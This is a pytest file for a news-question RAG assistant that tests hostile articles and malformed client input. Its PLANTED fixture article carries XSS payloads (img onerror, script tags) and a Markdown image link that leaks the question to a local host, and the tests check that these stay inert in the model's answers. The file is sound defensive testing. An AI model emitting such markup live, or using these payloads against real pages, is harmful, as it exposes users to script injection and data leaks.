"""Hostile articles and hostile clients at every face (issue #18, items 1,
4, 5, 9, 10, 11, 12). Each case runs through the real CLI scripts or a real
HTTP server: the app under uvicorn with fake models where the answer does
not matter, `rag serve --model tiny` for the server's own start-up, and one
end-to-end markup case on the default model (slow).

Decided here (and in rag/render.py's docstring): the answer string and the
text views (CLI text, /v1/chat/completions content, the copy text) show
article markup inert (`rag.text.inert`); the JSON's article fields
(citations' and evidence's title, outlet and text, conflicts' quotes) stay
as the article has them: data, which the contract says is the passage the
model read, for a consumer to escape as our own HTML page does."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time

import httpx
import pytest

from rag import indexing
from rag.errors import IndexMissing
from rag.render import render_answer
from rag.server import create_app
from rag.service import Assistant
from rag.settings import Settings

from helpers import (
    ARTICLES,
    BIN,
    TARIFF_Q,
    FakeEmbedder,
    FakeLLM,
    ThreadServer,
    check_contract,
    fake_assistant,
    free_port,
    running,
    write_articles,
)

PLANTED = ("---\ntitle: <img src=x onerror=alert(1)> Trump Xi call\noutlet: <script>alert(2)</script>\n"
           "date: 2026-02-05\n---\n"
           "Officials said the Trump Xi phone call lasted 45 minutes ![x](http://127.0.0.1:9/leak?q=QUESTION) "
           "and covered trade.\n")
CALL_Q = "How long was the phone call between Trump and Xi?"
OFFICIALS_Q = "What did officials say about the Trump Xi phone call?"
LIVE = ("<script", "<img", "](http", "127.0.0.1:9")  # what a Markdown or HTML view would make live
BAD_TEXT = "what tariff \ud800 rate?"  # a lone surrogate: JSON can carry it, UTF-8 cannot


def assert_inert(text: str) -> None:
    for bad in LIVE:
        assert bad not in text, (bad, text)


def echo_planted(messages: list[dict]) -> str:
    """A model that repeats the planted sentence, markup and all, citing it."""
    for n, text in re.findall(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', messages[-1]["content"], re.S):
        if "leak" in text:
            return f"{text.strip()} [{n}]"
    return "NOT IN ARTICLES"


def post_json(client: httpx.Client, path: str, body: dict) -> httpx.Response:
    """JSON with \\u escapes, so that a lone surrogate gets on the wire."""
    return client.post(path, content=json.dumps(body).encode(), headers={"Content-Type": "application/json"})


def sse_data(text: str) -> list[str]:
    return [line[6:] for line in text.splitlines() if line.startswith("data: ")]


def run(args: list, env: dict, stdin: bytes | None = b"", timeout: float | None = 180) -> subprocess.CompletedProcess:
    return subprocess.run(args, env=env, input=stdin, capture_output=True, timeout=timeout)


def clean_error(p: subprocess.CompletedProcess) -> str:
    """Non-zero exit, one line on stderr starting "error:", no traceback."""
    out, err = p.stdout.decode(errors="replace"), p.stderr.decode(errors="replace")
    assert p.returncode != 0, out
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error:"), err
    assert "Traceback" not in out + err
    return lines[0]


@pytest.fixture
def hostile(tmp_path):
    """The test articles plus the planted one (FakeEmbedder), served by the
    real app with a model that echoes the planted markup; env for the CLI
    scripts, whose questions go to that server (the warm path)."""
    news = write_articles(tmp_path / "news", {**ARTICLES, "planted.md": PLANTED})
    s = Settings(index_dir=tmp_path / "index", seeds_dir=news)
    emb = FakeEmbedder()
    idx, _, _ = indexing.ingest(s, emb, [news])
    a = Assistant(s, embedder=emb, llms={s.model: FakeLLM(echo_planted)}, index=idx)
    a.state = "ready"
    with ThreadServer(create_app(a)) as srv, httpx.Client(base_url=srv.url, timeout=30) as client:
        env = {**os.environ, "RAG_INDEX_DIR": str(s.index_dir), "RAG_PORT": str(srv.port), "NO_COLOR": "1",
               "RAG_SERVER_PROBE_S": "5"}  # the server is there: no in-process answer on a loaded machine
        yield client, env, idx


# ---- 1. article markup and links ----------------------------------------------------

def test_article_markup_is_inert_in_every_face(hostile):
    client, env, idx = hostile
    answers = {}
    for q in (CALL_Q, OFFICIALS_Q):
        j = answers[q] = client.post("/ask", json={"question": q}).json()
        check_contract(j, idx)
        assert "planted" in {c["doc_id"] for c in j["citations"]}, j["answer"]
        assert_inert(j["answer"])
        planted = next(c for c in j["citations"] if c["doc_id"] == "planted")
        assert planted["title"].startswith("<img")  # JSON data fields stay as written (module doc)
        assert_inert(render_answer(j, turn=1).replace("127.0.0.1:9", ""))  # the page escapes the rest

        events = client.post("/ask/stream", json={"question": q}).text
        assert_inert(json.loads(sse_data(events)[-1])["answer"])

        chat = {"model": "default", "messages": [{"role": "user", "content": q}]}
        done = client.post("/v1/chat/completions", json=chat).json()
        assert_inert(done["choices"][0]["message"]["content"])
        data = sse_data(client.post("/v1/chat/completions", json={**chat, "stream": True}).text)
        assert data[-1] == "[DONE]"
        streamed = "".join(c["choices"][0]["delta"].get("content", "") for c in map(json.loads, data[:-1]) if c["choices"])
        assert streamed == done["choices"][0]["message"]["content"]

        text = run([BIN / "ask", q], env)
        assert text.returncode == 0, text.stderr
        assert_inert(text.stdout.decode())
        as_json = json.loads(run([BIN / "ask", "--json", q], env).stdout)
        assert as_json["served_by"] == "server"
        assert_inert(as_json["answer"])
    # the outlet's <script> reached the answer through "the sources differ": there, inert
    assert "The sources differ" in answers[CALL_Q]["answer"] and "‹script›alert(2)‹/script›" in answers[CALL_Q]["answer"]
    listing = run([BIN / "rag", "articles"], env)
    assert listing.returncode == 0 and "Trump Xi call" in listing.stdout.decode()
    assert_inert(listing.stdout.decode())


# ---- 5. text that is not text --------------------------------------------------------

def test_a_lone_surrogate_is_a_400_on_every_endpoint(hostile):
    client, _, _ = hostile
    for path in ("/ask", "/ask/stream"):
        r = post_json(client, path, {"question": BAD_TEXT})
        assert r.status_code == 400 and "not valid text" in r.json()["error"], r.text
    for stream in (False, True):
        r = post_json(client, "/v1/chat/completions", {"model": "x", "stream": stream,
                                                       "messages": [{"role": "user", "content": BAD_TEXT}]})
        assert r.status_code == 400 and "not valid text" in r.json()["error"]["message"], r.text
    r = post_json(client, "/ask", {"question": "what", "\ud800": 1})  # a field name: echoed back, it still encodes
    assert r.status_code == 400 and "not valid text" in r.json()["error"], r.text


def test_a_stream_that_fails_says_so_and_ends_properly(settings, embedder, index):
    class Broken(FakeLLM):
        def stream(self, messages, max_tokens):
            yield "The"
            raise RuntimeError("a bug")

    a = Assistant(settings, embedder=embedder, llms={settings.model: Broken()}, index=index)
    a.state = "ready"
    with ThreadServer(create_app(a)) as srv, httpx.Client(base_url=srv.url, timeout=30) as client:
        data = sse_data(client.post("/v1/chat/completions", json={
            "model": "x", "stream": True, "messages": [{"role": "user", "content": TARIFF_Q}]}).text)
        assert data[-1] == "[DONE]" and json.loads(data[-2])["error"]["code"] == 500
        events = client.post("/ask/stream", json={"question": TARIFF_Q}).text
        last = json.loads(sse_data(events)[-1])
        assert "event: error" in events and last["status"] == 500 and "internal error" in last["error"]


def test_cli_refuses_a_question_that_is_not_utf8(hostile):
    _, env, _ = hostile
    assert "not valid text" in clean_error(run([str(BIN / "ask").encode(), b"what \xff tariff?"], env))


def test_batch_reports_a_bad_line_and_goes_on(hostile):
    _, env, _ = hostile
    p = run([BIN / "ask", "--json", "-"], env, stdin=f"{TARIFF_Q}\nbad \xff line\n{CALL_Q}\n".encode("latin-1"))
    assert p.returncode == 0 and not p.stderr, p.stderr
    rows = [json.loads(x) for x in p.stdout.decode().splitlines()]
    assert [("error" in r) for r in rows] == [False, True, False]
    assert rows[1]["question"] == "bad ? line" and "not valid text" in rows[1]["error"]
    check_contract(rows[0])
    check_contract(rows[2])


# ---- 11. ask - without questions -------------------------------------------------------

@pytest.mark.parametrize("how", ["closed", "empty", "blank"])
def test_ask_dash_without_questions_is_a_clean_error(hostile, how):
    _, env, _ = hostile
    if how == "closed":
        p = run(["sh", "-c", f'exec "{BIN / "ask"}" - <&-'], env, stdin=None)
    else:
        p = run([BIN / "ask", "--json", "-"], env, stdin=b"" if how == "empty" else b"\n  \n")
    assert "stdin" in clean_error(p) and not p.stdout


# ---- 12. settings out of bounds, text parts that are not text ----------------------------

@pytest.mark.parametrize("k", ["0", "-1"])
def test_top_k_out_of_bounds_in_the_environment_is_refused(hostile, k):
    _, env, _ = hostile
    for cmd in ([BIN / "ask", TARIFF_Q], [BIN / "rag", "serve", "--port", str(free_port())]):
        assert "top_k" in clean_error(run(cmd, {**env, "RAG_TOP_K": k}))


def test_a_text_part_without_text_is_a_400(hostile):
    client, _, _ = hostile
    for part in ({"type": "text", "text": None}, {"type": "text"}, {"type": "text", "text": 5}):
        r = client.post("/v1/chat/completions", json={"model": "x", "messages": [{"role": "user", "content": [part]}]})
        assert r.status_code == 400 and 'string "text"' in r.json()["error"]["message"], r.text
    r = client.post("/v1/chat/completions", json={"model": "x", "messages": [
        {"role": "user", "content": [{"type": "text", "text": TARIFF_Q}, {"type": "image_url", "image_url": {}}]}]})
    assert r.status_code == 200 and r.json()["rag"]["question"] == TARIFF_Q


# ---- 4. which models a client may use ------------------------------------------------------

def test_clients_get_only_the_models_the_server_was_started_with(settings, embedder, index):
    own = settings.model_copy(update={"model": "tiny"})
    a = fake_assistant(own, embedder, index)
    with ThreadServer(create_app(a)) as srv, httpx.Client(base_url=srv.url, timeout=30) as client:
        assert [m["id"] for m in client.get("/v1/models").json()["data"]] == ["tiny"]
        for path, body in (("/ask", {"question": TARIFF_Q, "model": "default"}),
                           ("/v1/chat/completions", {"model": "default", "messages": [{"role": "user", "content": TARIFF_Q}]})):
            r = client.post(path, json=body)
            err = r.json()["error"]
            msg = err["message"] if isinstance(err, dict) else err
            assert r.status_code == 400 and "offers: tiny" in msg and "--allow-model default" in msg, r.text
        r = client.post("/v1/chat/completions", json={"model": "gpt-4o", "messages": [{"role": "user", "content": TARIFF_Q}]})
        assert r.status_code == 200 and r.json()["model"] == "tiny"  # OpenAI clients' own names: the server's model
        assert a.status()["models_loaded"] == ["tiny"]  # nothing else was loaded
        assert client.get("/docs").status_code == 404 and client.get("/redoc").status_code == 404  # no CDN page
        assert client.get("/openapi.json").status_code == 200


def test_allowed_models_and_model_files_are_named_without_paths(settings, embedder, index):
    path = "/srv/private/models/my-model.gguf"
    s = settings.model_copy(update={"model": path, "allow_models": ["fast"]})
    a = Assistant(s, embedder=embedder, llms={path: FakeLLM("NOT IN ARTICLES"), "fast": FakeLLM("NOT IN ARTICLES")},
                  index=index)
    a.state = "ready"
    with ThreadServer(create_app(a)) as srv, httpx.Client(base_url=srv.url, timeout=30) as client:
        health = client.get("/health").text
        models = client.get("/v1/models").json()
        assert [m["id"] for m in models["data"]] == ["my-model.gguf", "fast"]
        assert "/srv/private" not in health and str(settings.index_dir) not in health
        assert client.post("/ask", json={"question": TARIFF_Q, "model": "fast"}).status_code == 200
        assert client.post("/ask", json={"question": TARIFF_Q, "model": "my-model.gguf"}).status_code == 200
        assert client.post("/ask", json={"question": TARIFF_Q, "model": path}).status_code == 200  # its own
        assert client.post("/ask", json={"question": TARIFF_Q, "model": "tiny"}).status_code == 400
    assert set(json.loads(health)["models_loaded"]) == {"my-model.gguf", "fast"}


def test_serve_and_ui_take_allow_model():
    for cmd in ("serve", "ui"):
        out = subprocess.run([BIN / "rag", cmd, "--help"], capture_output=True, text=True, timeout=60).stdout
        assert "--allow-model NAME" in out


# ---- 10. --index that holds no index ---------------------------------------------------------

def test_a_named_index_folder_without_an_index_is_refused_not_seeded(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAG_")} | {
        "RAG_USE_SERVER": "0", "RAG_MODELS_DIR": os.environ.get("RAG_MODELS_DIR", str(Settings().models_dir))}
    empty = tmp_path / "nothing-here"
    a_file = tmp_path / "passwd"
    a_file.write_text("root:x:0:0\n")
    news = write_articles(tmp_path / "news")
    msg = clean_error(run([BIN / "ask", "--model", "tiny", "--index", str(empty), TARIFF_Q], env))  # make test-fast installs tiny only
    assert f"no index at {empty}" in msg and f"rag ingest FOLDER --index {empty}" in msg
    assert not (empty / "current").exists()  # the shipped seeds were not built there
    for cmd in (["ask", "--model", "tiny", "--index", str(a_file), TARIFF_Q],
                ["rag", "ingest", str(news), "--index", str(a_file)],
                ["rag", "articles", "--index", str(a_file)]):
        assert f"{a_file} is a file, not an index folder" in clean_error(run([BIN / cmd[0], *cmd[1:]], env))
    assert "cannot write the index folder /proc/nonexistent" in clean_error(
        run([BIN / "rag", "ingest", str(news), "--index", "/proc/nonexistent"], env))
    assert "no index at /proc/nonexistent" in clean_error(run([BIN / "rag", "articles", "--index", "/proc/nonexistent"], env))


def test_only_the_default_folder_or_named_seeds_build_from_the_seeds(tmp_path, embedder):
    assert not Settings(index_dir=tmp_path / "x").seeds_on_first_use()
    assert Settings(index_dir=tmp_path / "x", seeds_dir=tmp_path).seeds_on_first_use()
    assert Settings(index_dir=Settings.model_fields["index_dir"].default).seeds_on_first_use()
    with pytest.raises(IndexMissing, match="rag ingest FOLDER"):
        indexing.ensure(Settings(index_dir=tmp_path / "x"), embedder)
    assert not (tmp_path / "x").exists()


# ---- 9. an index folder that cannot be written ------------------------------------------------

def without_write_permission() -> list[str]:
    """A command prefix under which chmod 555 holds: none for a normal user;
    for root, root without its power to override file permissions."""
    if os.geteuid() != 0:
        return []
    if not shutil.which("setpriv"):
        pytest.skip("running as root without setpriv: cannot make a folder unwritable")
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--"]


SERVE_FAKES = """
import sys, uvicorn
sys.path.insert(0, sys.argv[3])
from helpers import FakeEmbedder, fake_assistant
from rag import store
from rag.server import create_app
from rag.settings import Settings
s = Settings(index_dir=sys.argv[1], seeds_dir=sys.argv[1])
emb = FakeEmbedder()
idx = store.Index.load(s.index_dir)
uvicorn.run(create_app(fake_assistant(s, emb, idx)), host="127.0.0.1", port=int(sys.argv[2]), log_level="warning")
"""


def test_an_unwritable_index_folder_is_one_line_and_a_503(tmp_path, settings, embedder, index):
    prefix = without_write_permission()
    news = write_articles(tmp_path / "more", {"paris.txt": "Storm closes Paris metro\n\nA storm flooded the metro.\n"})
    env = {**os.environ, "RAG_USE_SERVER": "0"}
    os.chmod(settings.index_dir, 0o555)
    try:
        msg = clean_error(run([*prefix, BIN / "rag", "ingest", str(news), "--index", str(settings.index_dir)], env))
        assert f"cannot write the index folder {settings.index_dir} (Permission denied)" in msg and "--index" in msg
        port = free_port()
        cmd = [*prefix, sys.executable, "-c", SERVE_FAKES, str(settings.index_dir), str(port), os.path.dirname(__file__)]
        url = f"http://127.0.0.1:{port}"
        with running(cmd, tmp_path / "serve.log", url + "/health", env=env):
            r = httpx.post(url + "/ingest", files=[("files", ("paris.txt", (news / "paris.txt").read_bytes(), "text/plain"))])
            assert r.status_code == 503 and "cannot write the index folder" in r.json()["error"], r.text
            assert httpx.post(url + "/ask", json={"question": TARIFF_Q}).status_code == 200  # reading still works
    finally:
        os.chmod(settings.index_dir, 0o755)


# ---- slow: the real `rag serve` and the page ---------------------------------------------------

def serve(tmp_path, model: str, *extra: str, articles: dict | None = None):
    """`rag serve --model MODEL` over the test articles (and `articles`) in tmp."""
    port = free_port()
    news = write_articles(tmp_path / "news", articles or ARTICLES)
    env = {**os.environ, "RAG_SEEDS_DIR": str(news), "NO_COLOR": "1", "RAG_PORT": str(port),
           "RAG_INDEX_DIR": str(tmp_path / "index")}
    cmd = [BIN / "rag", "serve", "--port", str(port), "--model", model, *extra]
    return running(cmd, tmp_path / "serve.log", f"http://127.0.0.1:{port}/v1/models", env=env, timeout=300), port, env


def wait_ready(c: httpx.Client, timeout: float = 300) -> None:
    deadline = time.monotonic() + timeout
    while (state := c.get("/health").json()["state"]) != "ready":
        assert time.monotonic() < deadline and not state.startswith("error"), state
        time.sleep(0.5)


@pytest.mark.slow
def test_real_server_keeps_to_its_models_and_refuses_what_is_not_text(tmp_path):
    ctx, port, _ = serve(tmp_path, "tiny", "--allow-model", "fast")
    with ctx, httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=300) as c:
        assert [m["id"] for m in c.get("/v1/models").json()["data"]] == ["tiny", "fast"]
        r = c.post("/v1/chat/completions", json={"model": "default", "messages": [{"role": "user", "content": TARIFF_Q}]})
        assert r.status_code == 400 and "offers: tiny, fast" in r.json()["error"]["message"]
        assert post_json(c, "/ask", {"question": BAD_TEXT}).status_code == 400
        r = post_json(c, "/v1/chat/completions", {"model": "tiny", "stream": True,
                                                  "messages": [{"role": "user", "content": BAD_TEXT}]})
        assert r.status_code == 400 and "not valid text" in r.json()["error"]["message"]
        r = c.post("/v1/chat/completions", json={"model": "tiny", "messages": [
            {"role": "user", "content": [{"type": "text", "text": None}]}]})
        assert r.status_code == 400
        assert c.get("/docs").status_code == 404
        wait_ready(c)
        health = c.get("/health").text
        assert json.loads(health)["models_loaded"] == ["tiny"] and str(tmp_path) not in health


@pytest.mark.slow
def test_the_page_offers_only_the_models_it_was_started_with(settings, embedder, index):
    from ui.app import build

    for allowed, shown in (([], ["default"]), (["tiny"], ["default", "tiny"])):
        a = fake_assistant(settings.model_copy(update={"allow_models": allowed}), embedder, index)
        picker = next(c for c in build(a).blocks.values() if getattr(c, "elem_id", None) == "model")
        assert [v for _, v in picker.choices] == shown and picker.value == "default"


@pytest.mark.slow
def test_planted_markup_is_inert_end_to_end_on_the_default_model(tmp_path):
    """Issue #18's repro: the seeds plus the planted article, the default
    model, both questions through the server's faces and the CLI."""
    seeds = {p.name: p.read_text("utf-8") for p in Settings().seeds_dir.iterdir() if p.is_file()}
    ctx, port, env = serve(tmp_path, "default", articles={**seeds, "planted.md": PLANTED})
    with ctx, httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=600) as c:
        wait_ready(c)
        seen, shown = set(), ""
        for q in ("What did officials say about the Trump Xi phone call?", "how long was the call?"):
            j = c.post("/ask", json={"question": q}).json()
            seen |= {p["doc_id"] for p in j["passages"]}
            assert_inert(j["answer"])
            chat = {"model": "default", "messages": [{"role": "user", "content": q}]}
            assert_inert(c.post("/v1/chat/completions", json=chat).json()["choices"][0]["message"]["content"])
            data = sse_data(c.post("/v1/chat/completions", json={**chat, "stream": True}).text)
            assert data[-1] == "[DONE]"
            assert_inert("".join(x["choices"][0]["delta"].get("content", "") for x in map(json.loads, data[:-1]) if x["choices"]))
            text = run([BIN / "ask", q], env, timeout=None)
            assert text.returncode == 0, text.stderr
            assert_inert(text.stdout.decode())
            shown += text.stdout.decode()
        assert "planted" in seen and "‹img src=x" in shown  # the planted article reached the faces, inert
